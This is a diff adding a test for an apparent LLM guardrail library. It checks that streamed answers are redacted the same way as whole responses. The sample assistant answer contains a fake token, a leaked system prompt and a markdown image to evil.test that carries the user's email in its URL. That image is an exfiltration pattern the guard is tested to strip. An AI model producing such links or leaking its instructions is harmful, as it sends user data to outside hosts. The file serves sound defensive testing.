@@ -578,3 +578,68 @@ describe('guardStream with pendingStart', () => {
     assert.match(text, /answer stopped/);
   });
 });
+
+describe('guardStream with the real output checks', () => {
+  it('gives the same answer as the whole-body guard for any chunking', async () => {
+    const { parsePolicyText } = await import('../policy/load.ts');
+    const { compileGuard } = await import('../policy/engine.ts');
+    const { createPseudonymSession } = await import('../policy/pseudonyms.ts');
+    const { policies } = parsePolicyText(
+      `apiVersion: parapet.dev/v1alpha1
+kind: GuardrailPolicy
+metadata: { name: p }
+spec:
+  input: { pii: { action: pseudonymize, entities: [EMAIL_ADDRESS] } }
+  output:
+    secrets: { action: redact }
+    links: { action: redact, allowHosts: [docs.example.com] }
+    systemPromptLeak: { action: redact }
+`,
+      'p.yaml',
+    );
+    const guard = compileGuard(policies, { pseudonymizer: createPseudonymSession });
+    const conversation = openaiAdapter.parseRequest('chat', {
+      model: 'm',
+      messages: [
+        {
+          role: 'system',
+          content: 'You are Orbit, the support assistant of Acme Rockets. Never discuss launch dates.',
+        },
+        { role: 'user', content: 'Mail alice@example.org please.' },
+      ],
+    });
+    const answer =
+      'Done, I wrote to <EMAIL_ADDRESS_1>. Token ghp_4aF9kLm2Qx7Rt1Zb8Vc3Yw6Nd0Hs5Jp2Ke9U is set. ' +
+      'See [the guide](https://docs.example.com/a) and ![x](https://evil.test/p.png?u=<EMAIL_ADDRESS_1>). ' +
+      'My rules: You are Orbit, the support assistant of Acme Rockets. Never discuss launch dates. Bye!';
+    const whole = async (): Promise<string> => {
+      const exchange = guard.begin(conversation, { requestId: 'r', identity: 'a' });
+      await exchange.checkInput();
+      const body: JsonObject = { choices: [{ index: 0, message: { role: 'assistant', content: answer } }] };
+      const result = await guardResponseBody(body, chat(exchange.output));
+      const choices = result.body.choices as { message: { content: string } }[];
+      return choices[0]?.message.content ?? '';
+    };
+    const expected = await whole();
+    assert.ok(expected.includes('alice@example.org') && expected.includes('[image removed]'));
+    assert.ok(!expected.includes('ghp_') && !expected.includes('Never discuss'));
+    let seed = 5;
+    const random = (n: number): number => {
+      seed = (seed * 1103515245 + 12345) % 2 ** 31;
+      return seed % n;
+    };
+    for (let round = 0; round < 60; round++) {
+      const exchange = guard.begin(conversation, { requestId: 'r', identity: 'a' });
+      await exchange.checkInput();
+      const events: SseEvent[] = [];
+      for (let at = 0; at < answer.length;) {
+        const size = 1 + random(12);
+        events.push(openaiChunk(answer.slice(at, at + size)));
+        at += size;
+      }
+      events.push(openaiChunk('', 'stop'), DONE);
+      const out = await collect(guardStream(fromArray(events), chat(exchange.output)));
+      assert.equal(chatContents(out).join(''), expected, `round ${round}`);
+    }
+  });
+});
